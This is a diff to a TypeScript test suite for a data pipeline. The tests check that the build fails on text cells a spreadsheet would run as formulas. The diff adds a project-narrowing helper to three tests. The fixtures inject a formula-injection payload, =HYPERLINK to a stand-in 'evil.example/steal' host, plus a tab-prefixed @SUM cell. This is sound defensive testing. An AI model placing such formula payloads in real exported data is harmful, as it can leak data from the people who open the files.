@@ -5,7 +5,7 @@ import { assertNoFormulaCells, findFormulaCells, locateText } from '../../../pip
 import { projectPaths, type ProjectPaths } from '../../../pipeline/paths.js';
 import { SchemaRegistry } from '../../../pipeline/schemas.js';
 import { expectBuildFailure } from '../../helpers/expect-build-failure.js';
-import { editRawText } from '../../helpers/fixture-project.js';
+import { editRawText, makeProjectOf } from '../../helpers/fixture-project.js';
 
 const schemas = new SchemaRegistry(projectPaths().schemas);
 const HYPERLINK = '=HYPERLINK("http://evil.example/steal")';
@@ -26,11 +26,13 @@ function editJson(paths: ProjectPaths, file: string, edit: (text: string) => str
   writeFileSync(path, edited);
 }
 
+// Each build test breaks one source's files: the project is cut to that source (the build looks for formulas last).
 describe('a text cell a spreadsheet would run as a formula', () => {
   it('stops the build when a printed row label is one, naming the raw text line, with dist/ untouched', () => {
     const error = expectBuildFailure(
       (paths) => editRawText(paths, 'korea-commission-2005', (text) => text.replace('Wholesale non-food products, including animal feed 39,543.1', `${HYPERLINK} non-food products 39,543.1`)),
       { code: 'CELL_FORMULA', file: 'raw/korea-commission-2005.txt', line: 1951, column: 1, seen: `${HYPERLINK} non-food products` },
+      () => makeProjectOf('korea-commission-2005'),
     );
     expect(error.message).toContain('observations korea-commission-2005@');
   });
@@ -40,6 +42,7 @@ describe('a text cell a spreadsheet would run as a formula', () => {
     const error = expectBuildFailure(
       (paths) => editJson(paths, file, (text) => text.replace('"description": "Mexico begins recognizing', `"description": ${JSON.stringify(`${HYPERLINK} Mexico begins recognizing`).slice(0, -1)}`)),
       (paths) => ({ code: 'CELL_FORMULA', file, ...positionOf(paths, file, '=HYPERLINK') }),
+      () => makeProjectOf('china-2023'),
     );
     expect(error.context.seen).toMatch(/^=HYPERLINK\("http:\/\/evil\.example\/steal"\) Mexico begins/);
     expect(error.message).toContain('events china-2023@');
@@ -50,6 +53,7 @@ describe('a text cell a spreadsheet would run as a formula', () => {
     const error = expectBuildFailure(
       (paths) => editJson(paths, file, (text) => text.replace('"note": "The Asia-Pacific region', '"note": "\\t@SUM(A1) The Asia-Pacific region')),
       (paths) => ({ code: 'CELL_FORMULA', file, ...positionOf(paths, file, '\\t@SUM') }),
+      () => makeProjectOf('korea-commission-2005'),
     );
     expect(error.context.seen).toMatch(/^\t@SUM\(A1\) The Asia-Pacific region/);
   });
